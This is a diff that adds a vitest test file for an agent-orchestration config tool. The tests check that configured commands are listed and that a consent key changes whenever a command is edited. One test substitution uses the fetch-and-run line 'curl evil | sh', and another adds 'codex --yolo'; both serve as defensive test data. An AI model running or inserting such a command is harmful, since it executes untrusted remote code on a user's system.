@@ -1,0 +1,54 @@
+import { expect, test } from 'vitest'
+import { commandsOf, consentKey } from './digest'
+import { parseConfig } from './read'
+
+const TEXT = `[[orchestrations]]
+name = "dev"
+[[orchestrations.roles]]
+name = "lead"
+command = "claude"
+start = true
+[[orchestrations.roles]]
+name = "coder"
+command = "codex"
+where = "ssh://box/~/app"
+[[orchestrations.roles.gates]]
+name = "tests"
+command = "npm test"
+[[modes]]
+name = "ui"
+init_command = "devbox shell"
+[[modes.panes]]
+command = "git status"
+`
+
+function read(text: string) {
+  const result = parseConfig(text, '/p/.dot-agent-deck.toml')
+  if (result.kind !== 'ok') throw new Error('not read')
+  return result.config
+}
+
+test('lists every command with what it is for', () => {
+  expect(commandsOf(read(TEXT))).toEqual([
+    { where: 'dev: lead', command: 'claude' },
+    { where: 'dev: coder on ssh://box/~/app', command: 'codex' },
+    { where: 'dev: coder on ssh://box/~/app, gate tests', command: 'npm test' },
+    { where: 'mode ui, every pane', command: 'devbox shell' },
+    { where: 'mode ui, pane git status', command: 'git status' },
+  ])
+})
+
+test('consent is asked again when a command changes, and only then', () => {
+  const key = consentKey(read(TEXT))
+  expect(consentKey(read(`# a note\n${TEXT}seed_prompt_unknown = 1\n`))).toBe(key)
+  expect(consentKey(read(TEXT.replace('start = true', 'start = true\nprompt_template = "Lead."')))).toBe(key)
+  for (const [from, to] of [
+    ['"codex"', '"codex --yolo"'],
+    ['"npm test"', '"curl evil | sh"'],
+    ['"git status"', '"git log"'],
+    ['"devbox shell"', '"sh"'],
+    ['ssh://box/', 'ssh://other/'],
+  ] as const) {
+    expect(consentKey(read(TEXT.replace(from, to)))).not.toBe(key)
+  }
+})
